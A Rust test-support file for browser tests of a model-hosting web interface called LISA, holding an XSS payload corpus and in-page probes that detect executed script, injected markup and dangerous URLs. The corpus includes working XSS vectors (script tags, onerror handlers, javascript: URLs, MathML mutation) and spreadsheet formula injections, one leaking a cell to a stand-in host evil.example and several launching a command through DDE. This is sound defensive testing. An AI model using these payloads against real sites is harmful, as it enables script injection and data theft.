//! Hostile data for the browser tests: the XSS corpus that goes into every string LISA returns,
//! and the in-page probes that tell whether any of it ran, injected markup, became a link or
//! broke the layout.
//!
//! Every payload that could run script sets a canary, `top.__xss = <its number>`, so a check
//! that finds the canary set also says which payload did it.

use serde_json::{json, Value};

/// One entry of the corpus.
pub struct Payload {
    pub name: &'static str,
    pub text: String,
    /// The payload could run script if it were ever treated as markup or as a URL.
    pub scripted: bool,
}

fn p(name: &'static str, text: impl Into<String>) -> Payload {
    let text = text.into();
    let scripted = text.contains("__xss");
    Payload { name, text, scripted }
}

/// The corpus: tags, attribute breakouts, script URLs in every spelling, SVG and MathML
/// tricks, template syntax, very long strings, bidi and zero-width characters, emoji, entities,
/// null-ish words and spreadsheet formulas.
pub fn corpus() -> Vec<Payload> {
    vec![
        p("script tag", "<script>top.__xss=1</script>"),
        p("img onerror", "<img src=x onerror=\"top.__xss=2\">"),
        p("svg onload", "<svg onload=\"top.__xss=3\"></svg>"),
        p("iframe javascript", "<iframe src=\"javascript:top.__xss=4\"></iframe>"),
        p("double-quote breakout", "\"><img src=x onerror=top.__xss=5>"),
        p("single-quote breakout", "' onmouseover='top.__xss=6' data-x='"),
        p("unquoted breakout", "x onmouseover=top.__xss=7 onfocus=top.__xss=7 autofocus"),
        p("javascript URL", "javascript:top.__xss=8"),
        p("mixed-case javascript URL", "JaVaScRiPt:top.__xss=9"),
        p("padded javascript URL", "  javascript:top.__xss=10"),
        p("tab in javascript URL", "java\tscript:top.__xss=11"),
        p("data URL", "data:text/html,<script>top.__xss=12</script>"),
        p("svg script", "<svg><script>top.__xss=13</script></svg>"),
        p("mathml mutation", "<math><mtext><table><mglyph><style><img src=x onerror=top.__xss=14>"),
        p("textarea breakout", "</textarea><img src=x onerror=top.__xss=15>"),
        p("title breakout", "</title></option></select><img src=x onerror=top.__xss=16>"),
        p("anchor javascript", "<a href=\"javascript:top.__xss=17\">click me</a>"),
        p("details ontoggle", "<details open ontoggle=top.__xss=18>"),
        p("input autofocus", "<input autofocus onfocus=top.__xss=19>"),
        p("comment breakout", "<!--<img src=\"--><img src=x onerror=top.__xss=20>\">"),
        p("style injection", "<style>*{display:none!important}</style><b>styled</b>"),
        p("mustache template", "{{constructor.constructor('top.__xss=22')()}}"),
        p("template literal", "${top.__xss=23}"),
        p("leptos-looking view", "view! { <script>{move || top.__xss = 24}</script> }"),
        p("5,000 characters without spaces", "W".repeat(5000)),
        p("long HTML run", "<b>".repeat(400) + &"Ｗ".repeat(300)),
        p("RTL override", "admin\u{202E}txt.exe\u{202C} \u{202B}right-to-left\u{202C}"),
        p("zero-width characters", "ze\u{200B}ro\u{200C}wi\u{200D}dth\u{2060}\u{FEFF}"),
        p("emoji", "🔥💥🧨 model 👩‍💻 🏳️‍🌈 🇩🇪"),
        p("HTML entities", "&lt;img src=x onerror=top.__xss=30&gt; &amp;amp; &#60;script&#62;top.__xss=30&#60;/script&#62;"),
        p("null", "null"),
        p("undefined", "undefined"),
        p("formula HYPERLINK", "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"click\")"),
        p("formula plus", "+cmd|' /C calc'!A0"),
        p("formula minus", "-2+3+cmd|' /C calc'!A0"),
        p("formula at", "@SUM(1+1)*cmd|' /C calc'!A0"),
        p("vbscript URL", "vbscript:msgbox(top.__xss=37)"),
        p("percent-encoded script", "%3Cscript%3Etop.__xss=38%3C%2Fscript%3E"),
        p("NUL byte", "nul\u{0}<script>top.__xss=39</script>"),
    ]
}

/// The model fields [`content_model`] fills with the payload.
pub const MODEL_FIELDS: [&str; 22] = [
    "modelName", "modelDescription", "modelUrl", "instanceType", "features.name", "features.overview",
    "allowedGroups", "environment names", "environment values", "image", "health-check command",
    "load-balancer path", "scaling metric", "guardrail key", "guardrailName", "guardrailIdentifier",
    "guardrailVersion", "guardrail description", "guardrail allowedGroups", "schedule time zone",
    "schedule failure", "next scheduled action",
];

/// A LISA-hosted model, in service, whose every free-text field is `text` (the enumerations
/// stay known so that the actions and the edit form apply).
pub fn content_model(id: &str, text: &str) -> Value {
    json!({
        "modelId": id, "modelName": text, "modelDescription": text, "modelType": "textgen", "status": "InService",
        "streaming": true, "hostingType": "lisa_hosted", "modelUrl": text, "instanceType": text,
        "inferenceContainer": "vllm", "contextWindow": 8192,
        "containerConfig": {
            "image": {"baseImage": text, "type": text}, "sharedMemorySize": 2048,
            "healthCheckConfig": {"command": ["CMD-SHELL", text], "interval": 10, "startPeriod": 30, "timeout": 5, "retries": 3},
            "environment": {"HOSTILE_VALUE": text, text: "the name is hostile"}, "memoryReservation": null,
        },
        "autoScalingConfig": {
            "blockDeviceVolumeSize": 50, "minCapacity": 1, "maxCapacity": 2, "desiredCapacity": null, "cooldown": 420,
            "defaultInstanceWarmup": 180,
            "metricConfig": {"albMetricName": text, "targetValue": 30, "duration": 60, "estimatedInstanceWarmup": 330},
            "scheduling": {
                "scheduleType": "RECURRING", "timezone": text, "recurringSchedule": {"startTime": "08:00", "stopTime": "18:00"},
                "scheduleEnabled": true, "scheduleConfigured": true, "lastScheduleFailed": true, "lastScheduleUpdate": text,
                "nextScheduledAction": {"action": text, "scheduledTime": text},
                "lastScheduleFailure": {"timestamp": text, "error": text, "retryCount": 1},
            },
        },
        "loadBalancerConfig": {"healthCheckConfig": {"path": text, "interval": 60, "timeout": 30, "healthyThresholdCount": 2, "unhealthyThresholdCount": 10}},
        "features": [{"name": text, "overview": text}],
        "allowedGroups": [text],
        "guardrailsConfig": {text: {"guardrailName": text, "guardrailIdentifier": text, "guardrailVersion": text,
            "mode": "pre_call", "description": text, "allowedGroups": [text], "markedForDeletion": false}},
    })
}

/// A model whose id is `text`, and its name and the enumerations LISA sends as strings too
/// (status, type, hosting: an unknown value is shown as-is).
pub fn id_model(text: &str) -> Value {
    json!({
        "modelId": text, "modelName": text, "modelDescription": null, "modelType": text, "status": text,
        "streaming": false, "hostingType": text, "modelUrl": text, "features": null, "allowedGroups": [],
        "guardrailsConfig": null, "contextWindow": null, "autoScalingConfig": null, "containerConfig": null,
        "inferenceContainer": null, "instanceType": null, "loadBalancerConfig": null,
    })
}

/// A metrics record whose group, tool, session id, session model and timestamps are `texts`.
pub fn metrics_user(texts: &[&str]) -> Value {
    let mut sessions = serde_json::Map::new();
    let mut tools = serde_json::Map::new();
    for (i, t) in texts.iter().enumerate() {
        tools.insert(t.to_string(), json!(i as f64 + 1.0));
        sessions.insert(t.to_string(), json!({"totalPrompts": 2.0, "ragUsage": 0.0, "mcpToolCallsCount": i as f64 + 1.0,
            "mcpToolUsage": {(t.to_string()): i as f64 + 1.0}, "promptTokens": 100.0, "completionTokens": 50.0, "modelId": t}));
    }
    let first = texts.first().copied().unwrap_or_default();
    json!({"totalPrompts": 2.0 * texts.len() as f64, "ragUsageCount": 0.0, "mcpToolCallsCount": texts.len() as f64,
        "mcpToolUsage": tools, "userGroups": texts, "sessionMetrics": sessions, "firstSeen": first, "lastSeen": first})
}

/// The metrics fields [`metrics_user`] fills.
pub const METRICS_FIELDS: [&str; 6] = ["user id", "session id", "session model", "tool name", "group name", "first/last seen"];

/// Installed before every page's own scripts: records markup that should never appear (even
/// for a moment, e.g. in a windowed table row that is replaced on scroll).
pub const WATCH_INJECTIONS: &str = r#"
(() => {
  window.__hostileInjected = [];
  const describe = (el) => {
    if (!(el instanceof Element)) return null;
    const tag = el.localName;
    if (['iframe', 'frame', 'frameset', 'object', 'embed', 'base', 'portal', 'style'].includes(tag)) return tag;
    if (tag === 'script' && !(el.src && el.src.startsWith(location.origin + '/'))) return 'script';
    if (tag === 'meta' && el.hasAttribute('http-equiv')) return 'meta[http-equiv]';
    if (tag === 'img' && el.getAttribute('src') === 'x') return 'img[src=x]';
    for (const a of el.attributes) if (/^on/i.test(a.name)) return tag + '[' + a.name + ']';
    return null;
  };
  const note = (el) => {
    const what = describe(el);
    if (what) window.__hostileInjected.push(what);
  };
  new MutationObserver((records) => {
    // index.html itself, as the parser builds it, is the baseline.
    if (document.readyState === 'loading') return;
    for (const r of records) {
      if (r.type === 'attributes') {
        if (/^on/i.test(r.attributeName)) window.__hostileInjected.push(r.target.localName + '[' + r.attributeName + ']');
        continue;
      }
      for (const n of r.addedNodes) {
        if (!(n instanceof Element)) continue;
        note(n);
        for (const d of n.querySelectorAll('*')) note(d);
      }
    }
  }).observe(document, { childList: true, subtree: true, attributes: true });
})();
"#;

/// Hover, focus and click everything on the page that is not a control or a link (those
/// navigate or act): any handler smuggled in as an attribute would fire and set the canary.
pub const POKE: &str = r#"
const skip = 'a, button, input, select, textarea, label, summary, [data-action], [role=button], [role=link]';
let poked = 0;
for (const el of document.querySelectorAll('body *')) {
  for (const type of ['pointerover', 'mouseover', 'mouseenter', 'mousemove', 'focus', 'focusin']) {
    el.dispatchEvent(new (type.startsWith('focus') ? FocusEvent : MouseEvent)(type, { bubbles: type !== 'mouseenter' && type !== 'focus' }));
  }
  if (!el.closest(skip)) el.dispatchEvent(new MouseEvent('click', { bubbles: false }));
  poked += 1;
}
return poked;
"#;

/// What one look at the page finds; see [`Probe::from_value`].
pub const PROBE: &str = r#"
const canary = [window.__xss, top.__xss].find(v => v !== undefined);
const onAttrs = [];
for (const el of document.querySelectorAll('*')) {
  for (const a of el.attributes) if (/^on/i.test(a.name)) onAttrs.push(el.localName + '[' + a.name + ']');
}
const present = [];
for (const css of ['iframe', 'frame', 'object', 'embed', 'img[src=x]', 'svg[onload]', 'details[ontoggle]', 'body style', 'math']) {
  const n = document.querySelectorAll(css).length;
  if (n) present.push(css + ' ×' + n);
}
const badUrls = [];
for (const el of document.querySelectorAll('[href], [src], [action], [formaction], [xlink\\:href], [data]')) {
  for (const name of ['href', 'src', 'action', 'formaction', 'xlink:href', 'data']) {
    const v = el.getAttribute(name);
    if (v === null) continue;
    let protocol;
    try { protocol = new URL(v, document.baseURI).protocol; } catch (e) { protocol = 'unparsable:'; }
    if (['javascript:', 'data:', 'vbscript:'].includes(protocol)) badUrls.push(el.localName + '[' + name + ']=' + v.slice(0, 60));
  }
}
// Where the layout breaks: the elements whose text reaches past the window (a long word can
// overflow a narrow box, so text is measured, not boxes), outside a scrolling table wrapper.
const wide = [];
if (document.documentElement.scrollWidth > window.innerWidth + 1) {
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  const range = document.createRange();
  let node;
  while ((node = walker.nextNode()) && wide.length < 3) {
    const parent = node.parentElement;
    if (!parent || parent.closest('.table-wrap') || wide.includes(parent)) continue;
    range.selectNodeContents(node);
    if (range.getBoundingClientRect().right + window.scrollX > window.innerWidth + 1) wide.push(parent);
  }
}
const describeEl = (el) => el.localName + (el.id ? '#' + el.id : '') + (el.classList.length ? '.' + [...el.classList].join('.') : '');
return {
  overflowAt: wide.map(describeEl),
  canary: canary === undefined ? null : String(canary),
  scripts: document.querySelectorAll('script').length,
  injected: onAttrs.concat(present).concat(window.__hostileInjected || []),
  badUrls,
  scrollWidth: document.documentElement.scrollWidth,
  innerWidth: window.innerWidth,
  text: document.body ? document.body.textContent : '',
  values: [...document.querySelectorAll('input, textarea')].map(e => e.value),
};
"#;

/// The findings of [`PROBE`].
#[derive(Debug, Default)]
pub struct Probe {
    pub canary: Option<String>,
    pub scripts: u64,
    pub injected: Vec<String>,
    pub bad_urls: Vec<String>,
    pub scroll_width: f64,
    pub inner_width: f64,
    /// The outermost elements past the window's right edge, when the document overflows.
    pub overflow_at: Vec<String>,
    pub text: String,
    pub values: Vec<String>,
}

impl Probe {
    pub fn from_value(v: &Value) -> Probe {
        let strings = |key: &str| -> Vec<String> {
            v[key].as_array().map(|a| a.iter().filter_map(|s| s.as_str().map(String::from)).collect()).unwrap_or_default()
        };
        Probe {
            canary: v["canary"].as_str().map(String::from),
            scripts: v["scripts"].as_u64().unwrap_or(0),
            injected: strings("injected"),
            bad_urls: strings("badUrls"),
            scroll_width: v["scrollWidth"].as_f64().unwrap_or(0.0),
            inner_width: v["innerWidth"].as_f64().unwrap_or(0.0),
            overflow_at: strings("overflowAt"),
            text: v["text"].as_str().unwrap_or_default().to_string(),
            values: strings("values"),
        }
    }

    /// The document is wider than the window (tables scroll inside their `.table-wrap`).
    pub fn overflows(&self) -> bool {
        self.scroll_width > self.inner_width + 1.0
    }

    /// `text` is on the page as text (NUL bytes are dropped or replaced by the HTML parser).
    pub fn shows(&self, text: &str) -> bool {
        normalise(&self.text).contains(&normalise(text))
    }

    /// Some input or textarea holds exactly `text`.
    pub fn holds(&self, text: &str) -> bool {
        self.values.iter().any(|v| normalise(v) == normalise(text))
    }
}

/// What survives the HTML parser of a string: no NUL, no replacement character.
pub fn normalise(text: &str) -> String {
    text.chars().filter(|c| *c != '\0' && *c != '\u{FFFD}').collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn corpus_is_large_and_distinct() {
        let c = corpus();
        assert!(c.len() >= 30);
        let mut texts: Vec<&str> = c.iter().map(|p| p.text.as_str()).collect();
        texts.sort();
        texts.dedup();
        assert_eq!(texts.len(), c.len());
        assert!(c.iter().filter(|p| p.scripted).count() >= 20);
    }
}
